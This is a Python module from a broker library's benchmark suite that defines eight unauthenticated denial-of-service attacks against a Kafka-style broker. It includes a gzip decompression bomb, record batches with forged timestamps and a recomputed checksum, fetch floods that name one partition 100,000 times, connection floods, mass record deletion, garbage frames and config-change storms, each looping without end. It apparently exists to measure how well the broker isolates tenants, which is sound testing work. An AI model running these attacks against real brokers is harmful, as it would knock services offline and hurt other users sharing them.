"""The attackers of `bench/attacks.py`, each alone against one broker: unauthenticated clients that
do what the protocol lets anybody do. Each has a part that prepares and a part that runs until its
process is ended.
"""

from __future__ import annotations

import itertools
import os
import socket
import struct
import time
from collections.abc import Callable
from contextlib import suppress
from typing import Any, NamedTuple

from holdfast.clients.blocking_driver import Driver, DriverError
from holdfast.wire.administration import create_topic
from holdfast.wire.batch import Codec, Record, build_batch
from holdfast.wire.checksum import crc32c
from holdfast.wire.frame import encode_request
from holdfast.wire.messages.delete_records import (
    DeleteRecordsPartition,
    DeleteRecordsRequest,
    DeleteRecordsTopic,
)
from holdfast.wire.messages.fetch import FetchPartition, FetchRequest, FetchTopic
from holdfast.wire.messages.incremental_alter_configs import (
    AlterableConfig,
    AlterConfigsResource,
    IncrementalAlterConfigsRequest,
)
from holdfast.wire.messages.list_offsets import (
    ListOffsetsPartition,
    ListOffsetsRequest,
    ListOffsetsTopic,
)
from holdfast.wire.messages.produce import (
    PartitionProduceData,
    ProduceRequest,
    TopicProduceData,
)
from holdfast.wire.structs import ResourceType

_PRODUCE_VERSION, _FETCH_VERSION, _LIST_VERSION = 9, 11, 5
_DELETE_VERSION, _CONFIGS_VERSION = 2, 1
_PATIENCE_S = 30.0
_TOPIC = "attacked"
_MAX_TIMESTAMP = struct.Struct(">q")  # at byte 35 of a batch
_CRC = struct.Struct(">I")  # at byte 17, of all from byte 21 on
_NAMED = 100_000
_CONNECTIONS_MAX = 2_000


class Target(NamedTuple):
    """The broker that the neighbour's records go to."""

    host: str
    port: int
    bootstrap: str
    node: int


def _connect(target: Target) -> socket.socket:
    connection = socket.create_connection((target.host, target.port), _PATIENCE_S)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return connection


def _take(connection: socket.socket) -> None:
    """Read one answer and forget it. OSError: the broker closed."""
    head = connection.recv(4, socket.MSG_WAITALL)
    if len(head) < 4:
        raise ConnectionResetError
    rest = int.from_bytes(head, "big")
    while rest:
        part = len(connection.recv(min(rest, 1 << 20)))
        if not part:
            raise ConnectionResetError
        rest -= part


def _repeat(target: Target, frames: list[bytes], in_flight: int = 1) -> None:
    """Send these for ever, so many unanswered at a time, on a connection made anew when closed."""
    while True:
        with suppress(OSError), _connect(target) as connection:
            for number, frame in enumerate(itertools.cycle(frames)):
                connection.sendall(frame)
                if number >= in_flight:
                    _take(connection)
        time.sleep(0.01)


def wait_until_led(driver: Driver, topic: str) -> None:
    """Wait until a new topic is there and has leaders."""
    while True:
        found = driver.metadata([topic]).topics[0].partitions
        if found and all(each.leader_id >= 0 for each in found):
            return
        time.sleep(0.1)


def _topic(target: Target, partitions: int = 1, **configs: str) -> None:
    asked = create_topic(
        _TOPIC,
        assignment={index: [target.node] for index in range(partitions)},
        configs={name.replace("_", "."): value for name, value in configs.items()},
    )
    with Driver(target.bootstrap, timeout_s=_PATIENCE_S) as driver:
        driver.perform(asked)
        wait_until_led(driver, _TOPIC)
    time.sleep(1.0)  # until the broker has taken up all of them


def _produce(batch: bytes, partitions: int = 1, acks: int = 1) -> ProduceRequest:
    data = [PartitionProduceData(index=index, records=batch) for index in range(partitions)]
    topic = TopicProduceData(name=_TOPIC, partition_data=data)
    return ProduceRequest(acks=acks, timeout_ms=10_000, topic_data=[topic])


def _frame(message: Any, version: int) -> bytes:
    return encode_request(message, version, 1, "attacker")


# -- each attack -----------------------------------------------------------------------------------


def _prepare_bomb(target: Target) -> bytes:
    _topic(target, compression_type="lz4")
    bomb = build_batch([Record(value=bytes(100_000_000), timestamp=1)], codec=Codec.GZIP)
    return _frame(_produce(bytes(bomb)), _PRODUCE_VERSION)


def _run_bomb(target: Target, frame: bytes) -> None:
    _repeat(target, [frame])


def _prepare_lies(target: Target) -> bytes:
    """Fill a topic with tiny records whose headers promise a timestamp that none of them has."""
    _topic(target)
    batch = build_batch([Record(value=b"", timestamp=1)] * 3_000)
    _MAX_TIMESTAMP.pack_into(batch, 35, 1 << 50)
    _CRC.pack_into(batch, 17, crc32c(memoryview(batch)[21:]))
    with Driver(target.bootstrap, timeout_s=_PATIENCE_S) as driver:
        for _ in range(50):
            with suppress(DriverError):
                driver.peer(target.node).send(_produce(bytes(batch)), version=_PRODUCE_VERSION)
    asked = ListOffsetsPartition(partition_index=0, timestamp=1 << 40)
    topic = ListOffsetsTopic(name=_TOPIC, partitions=[asked])
    return _frame(ListOffsetsRequest(topics=[topic]), _LIST_VERSION)


def _run_lies(target: Target, frame: bytes) -> None:
    _repeat(target, [frame], in_flight=4)


def _parked(topic: str, times: int, bytes_max: int = 1 << 20, min_bytes: int = 1 << 30) -> bytes:
    named = FetchPartition(partition=0, fetch_offset=0, partition_max_bytes=bytes_max)
    request = FetchRequest(
        max_wait_ms=30_000,
        min_bytes=min_bytes,
        topics=[FetchTopic(topic=topic, partitions=[named] * times)],
    )
    return _frame(request, _FETCH_VERSION)


def _run_parked(target: Target, _: None) -> None:
    """Name the neighbour's partition 100,000 times in each of twelve fetches that wait."""
    frame = _parked("neighbour", _NAMED)
    while True:
        connections: list[socket.socket] = []
        for _number in range(12):
            with suppress(OSError):
                connections.append(_connect(target))
                connections[-1].sendall(frame)
        time.sleep(5.0)
        for connection in connections:
            connection.close()


def _prepare_unread(target: Target) -> None:
    _topic(target)
    batch = bytes(build_batch([Record(value=os.urandom(900_000), timestamp=1)]))
    with Driver(target.bootstrap, timeout_s=_PATIENCE_S) as driver:
        for _ in range(22):
            driver.peer(target.node).send(_produce(batch), version=_PRODUCE_VERSION)


def _run_unread(target: Target, _: None) -> None:
    """Ask for 20 MB sixty times behind a fetch that waits, and read nothing."""
    frames = _parked("neighbour", 1) + 60 * _parked(_TOPIC, 1, 20_000_000, 1)
    while True:
        with suppress(OSError), _connect(target) as connection:
            connection.settimeout(2.0)
            connection.sendall(frames)
            time.sleep(2.0)


def _run_connections(target: Target, _: None) -> None:
    """Open as many connections as there may be, as fast as can be; then all once more."""
    while True:
        opened: list[socket.socket] = []
        with suppress(OSError):
            while len(opened) < _CONNECTIONS_MAX:
                opened.append(_connect(target))
        for connection in opened:
            connection.close()


def _prepare_deletions(target: Target) -> list[bytes]:
    _topic(target, partitions=1_000)
    batch = bytes(build_batch([Record(value=b"x", timestamp=1)]))
    everything = [DeleteRecordsPartition(partition_index=n, offset=-1) for n in range(1_000)]
    topic = DeleteRecordsTopic(name=_TOPIC, partitions=everything)
    return [
        _frame(_produce(batch, 1_000), _PRODUCE_VERSION),
        _frame(DeleteRecordsRequest(topics=[topic], timeout_ms=10_000), _DELETE_VERSION),
    ]


def _run_deletions(target: Target, frames: list[bytes]) -> None:
    _repeat(target, frames)


def _run_garbage(target: Target, _: None) -> None:
    """Send what is no request, in frames of the right length and without; connect again."""
    while True:
        with suppress(OSError), _connect(target) as connection:
            noise = os.urandom(65_536)
            connection.sendall(len(noise).to_bytes(4, "big") + noise + os.urandom(4_096))
            connection.settimeout(0.5)
            _take(connection)


def _prepare_administration(target: Target) -> list[bytes]:
    _topic(target)

    def change(value: int) -> bytes:
        configs = [AlterableConfig(name="retention.ms", value=str(value))]
        resource = AlterConfigsResource(
            resource_type=ResourceType.TOPIC, resource_name=_TOPIC, configs=configs
        )
        return _frame(IncrementalAlterConfigsRequest(resources=[resource]), _CONFIGS_VERSION)

    return [change(100_000_000 + number) for number in range(50)]


def _run_administration(target: Target, frames: list[bytes]) -> None:
    _repeat(target, frames, in_flight=50)


Prepare = Callable[[Target], Any]
ATTACKS: dict[str, tuple[Prepare | None, Callable[..., None]]] = {
    "gzip-bomb": (_prepare_bomb, _run_bomb),
    "lying-timestamps": (_prepare_lies, _run_lies),
    "parked-fetches": (None, _run_parked),
    "unread-fetches": (_prepare_unread, _run_unread),
    "connections": (None, _run_connections),
    "delete-records": (_prepare_deletions, _run_deletions),
    "garbage": (None, _run_garbage),
    "administration": (_prepare_administration, _run_administration),
}
